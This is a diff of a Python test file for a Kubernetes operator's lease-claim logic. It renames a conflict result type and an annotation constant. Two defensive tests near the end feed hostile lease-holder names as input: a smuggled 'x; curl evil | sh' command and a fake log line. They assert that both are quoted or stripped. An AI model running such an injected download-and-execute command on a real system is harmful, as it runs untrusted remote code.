@@ -12,8 +12,8 @@ from adapter.admission.cluster_claim import (
     DEADLINE_SECONDS,
     HANDED_OVER_SECONDS,
     Claimant,
+    ClaimConflict,
     ClaimWrite,
-    HeldByAnother,
     Leadership,
 )
 from adapter.objects.unstructured import RawDict as Raw
@@ -46,7 +46,7 @@ def seen(seconds: float) -> Claimant:
 
 def move(
     found: Raw | None, me: Claimant | None = None, lead: Leadership = LEAD, taken_from: str = ""
-) -> ClaimWrite | HeldByAnother:
+) -> ClaimWrite | ClaimConflict:
     return cluster_claim.decide(me or seen(0), lead, WHICH, found, taken_from, NOW, WALL)
 
 
@@ -94,12 +94,12 @@ def test_it_is_taken_or_renewed(found: Raw | None, me: Claimant, after: float) -
     ],
 )
 def test_another_ones_is_respected(found: Raw, lead: Leadership) -> None:
-    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), HeldByAnother)
+    assert isinstance(move(found, seen(ABANDONED_SECONDS - 0.5), lead), ClaimConflict)
 
 
 def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
     made = move(None, Claimant("", NOW - ABANDONED_SECONDS + 0.5))
-    assert isinstance(made, HeldByAnother) and made.message == (
+    assert isinstance(made, ClaimConflict) and made.message == (
         "its claim (Lease rayspan-0123456789-east in its namespace rayspan-system) was deleted, which whoever held it may not know "
         "yet; nothing is written there until nobody has made it anew for 60 s"
     )
@@ -108,7 +108,7 @@ def test_who_held_it_when_it_was_deleted_is_the_first_to_make_it_anew() -> None:
 def test_whom_it_is_taken_from_has_time_to_learn_of_it() -> None:
     made = move(held(OTHER), taken_from=OTHER)
     assert isinstance(made, ClaimWrite) and made.effective_after == HANDED_OVER_SECONDS
-    assert isinstance(move(held(OTHER), taken_from=BEFORE), HeldByAnother), "that very holder, so it works once"
+    assert isinstance(move(held(OTHER), taken_from=BEFORE), ClaimConflict), "that very holder, so it works once"
     me = cluster_claim.with_grant(
         cluster_claim.with_request(seen(0), made, NOW), NOW + HANDED_OVER_SECONDS - 10
     )  # renewed since
@@ -127,15 +127,15 @@ def test_whom_it_is_taken_from_may_write_until_its_deadline_and_what_it_sent_las
     assert HANDED_OVER_SECONDS <= ABANDONED_SECONDS, "who waits for longer takes it without being told to"
 
 
-def noted(made: ClaimWrite | HeldByAnother) -> object:
+def noted(made: ClaimWrite | ClaimConflict) -> object:
     assert isinstance(made, ClaimWrite)
-    return made.body["metadata"]["annotations"].get(names.TAKEN_ANNOTATION, "-")
+    return made.body["metadata"]["annotations"].get(names.TAKEN_OVER_ANNOTATION, "-")
 
 
 def as_left(holder: str) -> Raw:
     """A claim that was taken over, and whose taker ended before its wait was over."""
     found = held(holder)
-    found["metadata"]["annotations"][names.TAKEN_ANNOTATION] = "true"
+    found["metadata"]["annotations"][names.TAKEN_OVER_ANNOTATION] = "true"
     return found
 
 
@@ -165,7 +165,7 @@ def test_who_comes_after_a_taker_waits_for_whom_it_was_taken_from(
 
 def test_whoever_may_put_it_right_reads_how() -> None:
     found = move(held(OTHER))
-    assert isinstance(found, HeldByAnother) and found.message == (
+    assert isinstance(found, ClaimConflict) and found.message == (
         "it is held by rayspan-a_9 since 2026-04-01T00:00:00.000000Z, which may be of a clone of this manager, or of the manager that "
         "this one is a clone of (Lease rayspan-0123456789-east in its namespace rayspan-system); nothing is written there. It is taken "
         "over when it was not renewed for 60 s; or, if that one is to stop, say so: kubectl annotate workercluster east --overwrite "
@@ -217,13 +217,13 @@ def test_people_read_who_holds_it_since_when(found: Raw | None, acquired: str, t
 
 def test_what_is_to_be_typed_holds_no_command_of_who_wrote_the_lease() -> None:
     found = move(held("x; curl evil | sh"))
-    assert isinstance(found, HeldByAnother) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
+    assert isinstance(found, ClaimConflict) and found.message.endswith(" rayspan.dev/take-over='x; curl evil | sh'")
 
 
 def test_no_line_of_the_log_is_of_who_wrote_the_lease() -> None:
     found = move(held("x\nERROR all is lost" + "x" * 5000))
     assert (
-        isinstance(found, HeldByAnother)
+        isinstance(found, ClaimConflict)
         and found.holder.isprintable()
         and "\n" not in found.message
         and len(found.holder) < 1100
